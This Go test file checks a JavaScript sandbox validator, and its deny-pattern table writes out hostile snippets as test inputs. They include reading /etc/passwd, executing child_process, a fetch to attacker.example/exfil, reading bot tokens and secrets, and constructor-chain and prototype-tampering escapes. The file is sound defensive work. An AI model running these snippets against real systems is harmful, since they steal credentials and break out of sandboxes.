package validator

import (
	"strings"
	"testing"
)

func TestValidate_CleanScriptPasses(t *testing.T) {
	v := New(0)
	script := `
		var rows = db.open("orders").list();
		var total = 0;
		for (var i = 0; i < rows.length; i++) {
			total += rows[i].amount;
		}
		api.call("sendMessage", { chat_id: input.chatId, text: "total: " + total });
		total;
	`
	verdict := v.Validate(script)
	if !verdict.OK {
		t.Fatalf("clean script rejected: pattern=%s reason=%s", verdict.Pattern, verdict.Reason)
	}
	if err := verdict.Err(); err != nil {
		t.Errorf("Err() = %v, want nil", err)
	}
}

func TestValidate_DenyPatterns(t *testing.T) {
	v := New(0)

	tests := []struct {
		name    string
		script  string
		pattern string
	}{
		{"require", `var fs = require("fs"); fs.readFileSync("/etc/passwd");`, "require_import"},
		{"dynamic import", `import("node:child_process")`, "require_import"},
		{"process env", `var key = process.env.BOT_TOKEN;`, "process_access"},
		{"child process", `child_process.execSync("id")`, "filesystem_access"},
		{"fetch", `fetch("https://attacker.example/exfil")`, "network_primitive"},
		{"eval", `eval("1+1")`, "dynamic_eval"},
		{"function constructor", `var f = new Function("return this");`, "dynamic_eval"},
		{"string timeout", `setTimeout("doEvil()", 10)`, "string_timer"},
		{"constructor chain", `({}).constructor.constructor("return this")()`, "constructor_chain"},
		{"proto", `obj.__proto__.isAdmin = true`, "prototype_tampering"},
		{"setPrototypeOf", `Object.setPrototypeOf(x, evil)`, "prototype_tampering"},
		{"globalThis", `globalThis.secrets`, "global_escape"},
		{"reflect", `Reflect.get(target, "hidden")`, "global_escape"},
		{"while true", `while (true) { spin(); }`, "unbounded_loop"},
		{"for ever", `for (;;) {}`, "unbounded_loop"},
		{"giant array", `var a = new Array(100000000);`, "giant_allocation"},
		{"giant repeat", `"x".repeat(1e9)`, "giant_allocation"},
		{"store access", `firestore("users").delete()`, "store_direct_access"},
		{"secret access", `secrets.get("bot_token")`, "secret_access"},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			verdict := v.Validate(tc.script)
			if verdict.OK {
				t.Fatalf("script passed, want rejection by %q", tc.pattern)
			}
			if verdict.Pattern != tc.pattern {
				t.Errorf("pattern = %q, want %q (reason: %s)", verdict.Pattern, tc.pattern, verdict.Reason)
			}
			if verdict.Err() == nil {
				t.Error("Err() = nil for failing verdict")
			}
		})
	}
}

func TestValidate_SizeCeilingBeforeScanning(t *testing.T) {
	v := New(128)
	// Over the ceiling AND containing a deny-pattern: the size check must win,
	// so scanning cost stays bounded.
	script := strings.Repeat("a = 1;\n", 40) + `eval("x")`
	verdict := v.Validate(script)
	if verdict.OK {
		t.Fatal("oversized script passed")
	}
	if verdict.Pattern != "size_limit" {
		t.Errorf("pattern = %q, want size_limit", verdict.Pattern)
	}
}

func TestValidate_EmptyScript(t *testing.T) {
	verdict := New(0).Validate("")
	if verdict.OK {
		t.Fatal("empty script passed")
	}
	if verdict.Pattern != "empty_script" {
		t.Errorf("pattern = %q, want empty_script", verdict.Pattern)
	}
}

func TestValidate_IsIdempotent(t *testing.T) {
	v := New(0)
	script := `eval("1")`
	first := v.Validate(script)
	second := v.Validate(script)
	if first.OK || second.OK {
		t.Fatal("script should fail both times")
	}
	if first.Pattern != second.Pattern {
		t.Errorf("verdicts differ across calls: %q vs %q", first.Pattern, second.Pattern)
	}
}

func TestPatternNames(t *testing.T) {
	names := PatternNames()
	if len(names) == 0 {
		t.Fatal("no deny-pattern names")
	}
	seen := make(map[string]bool, len(names))
	for _, n := range names {
		if seen[n] {
			t.Errorf("duplicate pattern name %q", n)
		}
		seen[n] = true
	}
}
